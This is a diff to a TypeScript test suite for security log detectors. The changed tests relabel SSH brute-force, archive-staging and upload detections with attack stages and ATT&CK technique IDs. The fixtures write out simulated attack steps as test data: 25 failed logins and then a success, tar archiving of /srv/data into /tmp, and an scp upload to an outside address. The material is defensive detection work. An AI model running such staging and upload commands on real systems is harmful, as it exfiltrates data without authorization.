@@ -210,7 +210,7 @@ describe('log detectors: one attack step each', () => {
     expect(found.map((d) => [d.detector, d.severity])).toEqual([['logs.web-server-exec', 'critical']]);
   });
 
-  it('successful brute force: 25 failures then Accepted from the same source and user', async () => {
+  it('login after guessing: 25 failures then Accepted from the same source and user is a valid-account login (Delivery, T1078)', async () => {
     const fails = Array.from(
       { length: 25 },
       (_, i): TestEvent => ({
@@ -232,15 +232,15 @@ describe('log detectors: one attack step each', () => {
       },
     ]);
     const ok = found.filter((d) => d.detector === 'logs.ssh-bruteforce-success');
-    expect(ok.map((d) => [d.stage, d.severity, d.peer, d.evidenceIds.length])).toEqual([['exploitation', 'high', '203.0.113.66', 26]]);
+    expect(ok.map((d) => [d.stage, d.technique, d.severity, d.peer, d.evidenceIds.length])).toEqual([['delivery', 'T1078', 'high', '203.0.113.66', 26]]);
     expect(found.map((d) => d.detector).sort()).toEqual(['logs.ssh-bruteforce-success', 'logs.ssh-password-guessing']);
   });
 
-  it('archive then transfer on the same host within 5 min', async () => {
+  it('archive in /tmp then an upload: staging (no peer) and the upload (with its peer) stay two detections', async () => {
     const found = await detect([exec(0, ['tar', '-czf', '/tmp/d.tgz', '/srv/data']), exec(60, ['scp', '/tmp/d.tgz', 'x@203.0.113.12:/in/'])]);
-    expect(found.map((d) => [d.detector, d.peer]).sort()).toEqual([
-      ['logs.archive-then-transfer', '203.0.113.12'],
-      ['logs.tool-upload', '203.0.113.12'],
+    expect(found.map((d) => [d.detector, d.stage, d.technique, d.peer]).sort()).toEqual([
+      ['logs.archive-staging', 'exploitation', 'T1560.001', null],
+      ['logs.tool-upload', 'actions', 'T1048.003', '203.0.113.12'],
     ]);
   });
 });
